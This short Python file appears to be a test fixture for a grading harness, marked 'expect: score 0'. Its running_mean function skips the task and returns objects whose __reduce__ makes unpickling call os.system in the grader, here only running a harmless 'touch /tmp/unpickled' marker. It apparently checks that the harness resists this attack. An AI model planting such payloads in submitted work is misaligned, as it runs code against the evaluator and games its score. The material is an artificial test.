"""Returns an object whose unpickling would run code in the grader."""
# expect: score 0
# %%
import os


class Verdict:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)

    __reduce_ex__ = lambda self, _protocol: self.__reduce__()


def running_mean(signal, window):
    return [Verdict(), Verdict]
